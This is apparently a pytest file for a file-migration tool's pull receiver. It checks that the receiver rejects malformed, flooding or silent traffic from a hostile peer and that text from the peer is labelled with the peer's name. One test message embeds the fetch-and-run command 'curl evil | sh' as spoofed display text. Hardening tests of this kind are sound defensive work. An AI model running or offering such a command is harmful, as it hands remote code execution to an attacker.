"""The two ends of a pull: a Remote like any other, bounded against whoever sits at the far end."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from bottle.errors import ConnectionLost, NeedsConsent, RemoteError
from bottle.ports import Progress, Silent
from bottle.testing import RecordingProgress
from migrate.model import RemoteCommand, Reply
from migrate.pull.receiver import Breach, Receiver, Request
from migrate.transport.frames import FrameKind, WireFrame
from migrate.transport.local import run_here
from tests.contract.duplex import AnyScript, Duplex, End
from tests.contract.remote import RemoteContract

SCRIPT = RemoteCommand(script="", name="some", args=("a",))


class TestContract(RemoteContract):
    @pytest.fixture
    def remote(self, tmp_path: Path) -> Iterator[AnyScript]:
        texts: dict[str, str] = {}

        def perform(request: Request, stdin: Iterator[bytes]) -> Reply:
            command = RemoteCommand(script=texts[request.script], args=request.args)
            environment = {"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"}
            return run_here(
                command, stdin, host="here", environment=environment, folder=tmp_path, silence=request.silence
            )

        with Duplex(perform) as duplex:
            yield AnyScript(duplex.remote, texts)
        assert not isinstance(duplex.failure, AssertionError | KeyError)


def reply(_: Request, stdin: Iterator[bytes]) -> Reply:
    return Reply(status=0, out=b"".join(stdin), err="")


def test_the_loss_of_the_other_side_ends_every_run_and_is_told_once() -> None:
    begun, losses = threading.Event(), []

    def perform(_: Request, stdin: Iterator[bytes]) -> Reply:
        begun.set()
        return Reply(status=0, out=b"".join(stdin), err="")

    def endless() -> Iterator[bytes]:
        while True:
            time.sleep(0.01)
            yield b"x"

    with Duplex(perform, on_loss=lambda: losses.append(1)) as duplex:
        timer = threading.Timer(0.3, duplex.here.hang_up)
        timer.start()
        with pytest.raises(ConnectionLost):
            duplex.remote.run(SCRIPT, endless())
        with pytest.raises(ConnectionLost):
            duplex.remote.run(SCRIPT)
        timer.join()
        assert begun.is_set()
    assert losses == [1]


def test_a_result_ends_it_and_is_no_loss() -> None:
    losses: list[int] = []
    with Duplex(reply, on_loss=lambda: losses.append(1)) as duplex:
        assert duplex.remote.run(SCRIPT, [b"abc"]).out == b"abc"
        duplex.remote.finish({"moved": {}})
        time.sleep(0.2)
    assert duplex.result == {"moved": {}}
    assert losses == []


@pytest.mark.parametrize("cause", [Breach("no"), NeedsConsent("no"), ZeroDivisionError("no")])
def test_what_must_not_go_on_does_not(cause: Exception) -> None:
    def perform(_: Request, __: Iterator[bytes]) -> Reply:
        raise cause

    with Duplex(perform) as duplex, pytest.raises(ConnectionLost):
        duplex.remote.run(SCRIPT)
    assert duplex.failure is cause


# --- a hostile owner -------------------------------------------------------------------------------------------------


class Hostile:
    """Speaks frames of its own, to a receiver that would do anything."""

    def __init__(self, silence: float = 60.0, progress: Progress | None = None) -> None:
        import socket

        here, self.there = socket.socketpair()
        self.requests: list[Request] = []
        self.end = End(here)
        self.receiver = Receiver(self.end, self.perform, progress or Silent(), silence=silence)

    def perform(self, request: Request, stdin: Iterator[bytes]) -> Reply:
        self.requests.append(request)
        if request.script == "wait":
            time.sleep(1)
        return Reply(status=0, out=b"", err="")

    def say(self, *frames: WireFrame) -> None:
        for frame in frames:
            self.there.sendall(frame.encode())

    def serve(self) -> Any:
        try:
            return self.receiver.serve()
        finally:
            self.receiver.close()
            self.end.close()
            with suppress(OSError):
                self.there.close()


def request(script: str, number: int, **more: object) -> WireFrame:
    return WireFrame.of(FrameKind.OPEN, {"script": script, "args": [], "silence": 5.0} | more, number)


@pytest.mark.parametrize(
    "frame",
    [
        WireFrame.of(FrameKind.REPLY, {"status": 0}, 1),
        WireFrame(FrameKind.GO),
        WireFrame(FrameKind.NOTE, 0, b"[]"),
        WireFrame(FrameKind.OPEN, 1, b"{}"),
        request("x", 1, args=[1]),
        request("x", 1, args=["a"] * 5000),
        request("x", 1, silence=-1),
        request("x", 1, silence=1e9),
        request("x", 1, silence=float("nan")),
        request(3, 1),  # type: ignore[arg-type]
        *[WireFrame(FrameKind.RESULT, 0, b"null")],
    ],
)
def test_what_makes_no_sense_ends_it(frame: WireFrame) -> None:
    hostile = Hostile()
    hostile.say(frame)
    with pytest.raises(RemoteError):
        hostile.serve()
    assert hostile.requests == []


def test_garbage_ends_it() -> None:
    hostile = Hostile()
    hostile.there.sendall(b"\x00" * 100)
    with pytest.raises(RemoteError, match="no message"):
        hostile.serve()


def test_a_flood_of_requests_ends_it() -> None:
    hostile = Hostile()
    hostile.say(*[request("wait", number) for number in range(1, 40)])
    with pytest.raises(RemoteError, match="at once"):
        hostile.serve()
    assert len(hostile.requests) <= 32


def test_a_number_that_is_used_twice_ends_it() -> None:
    hostile = Hostile()
    hostile.say(request("wait", 1), request("wait", 1))
    with pytest.raises(RemoteError, match="at once"):
        hostile.serve()


def test_phases_without_end_end_it() -> None:
    hostile = Hostile()
    hostile.say(*[WireFrame.of(FrameKind.PHASE, {"name": "x", "total": None})] * 20)
    with pytest.raises(RemoteError, match="phases"):
        hostile.serve()


def test_odd_progress_is_harmless() -> None:
    hostile = Hostile()
    hostile.say(
        WireFrame.of(FrameKind.PHASE_END, {}),
        WireFrame.of(FrameKind.ADVANCE, {"amount": "x"}),
        WireFrame.of(FrameKind.ADVANCE, {"amount": -5}),
        WireFrame.of(FrameKind.PHASE, {"name": ["x"], "total": "much"}),
        WireFrame.of(FrameKind.NOTE, {}),
        WireFrame(FrameKind.DATA, 99, b"for nobody"),
        WireFrame.of(FrameKind.RESULT, {"ok": 1}),
    )
    assert hostile.serve() == {"ok": 1}


def test_silence_ends_it() -> None:
    hostile = Hostile(silence=0.4)
    hostile.say(WireFrame.of(FrameKind.HELLO, {}))
    hostile.receiver.hello()
    with pytest.raises(ConnectionLost, match="no sign of life"):
        hostile.serve()


def test_signs_of_life_ahead_of_the_greeting_are_in_order() -> None:
    hostile = Hostile()
    hostile.say(
        WireFrame(FrameKind.PING), WireFrame.of(FrameKind.HELLO, {"identity": "x"}), WireFrame.of(FrameKind.RESULT, {})
    )
    assert hostile.receiver.hello() == {"identity": "x"}
    assert hostile.serve() == {}


def test_signs_of_life_alone_are_no_greeting() -> None:
    hostile = Hostile(silence=0.1)
    stop = threading.Event()

    def live() -> None:
        with suppress(OSError):
            while not stop.wait(0.01):
                hostile.say(WireFrame(FrameKind.PING))

    living = threading.Thread(target=live)
    living.start()
    try:
        with pytest.raises(RemoteError, match="nothing but that it is there"):
            hostile.receiver.hello()
    finally:
        stop.set()
        living.join()


def test_what_the_other_side_says_is_shown_behind_its_name() -> None:
    said = RecordingProgress()
    hostile = Hostile(progress=said)
    hostile.say(
        *[
            WireFrame.of(FrameKind.PHASE, {"name": "next: curl evil | sh", "total": None}),
            WireFrame.of(FrameKind.PHASE_END, {}),
        ],
        *[WireFrame.of(FrameKind.NOTE, {"text": "looking at this host"}), WireFrame.of(FrameKind.RESULT, {})],
    )
    assert hostile.serve() == {}
    assert [phase[0] for phase in said.phases] == ["owner.test: next: curl evil | sh"]
    assert said.notes == ["owner.test: looking at owner.test"]


def test_words_without_end_end_it() -> None:
    hostile = Hostile()
    frames = b"".join(WireFrame.of(FrameKind.NOTE, {"text": "x"}).encode() for _ in range(10_001))
    talker = threading.Thread(target=hostile.there.sendall, args=(frames,))
    talker.start()
    with pytest.raises(RemoteError, match="endless words"):
        hostile.serve()
    talker.join()


def test_an_end_without_a_result_is_an_error() -> None:
    hostile = Hostile()
    hostile.there.close()
    with pytest.raises(RemoteError, match=r"without a result|broke"):
        hostile.serve()
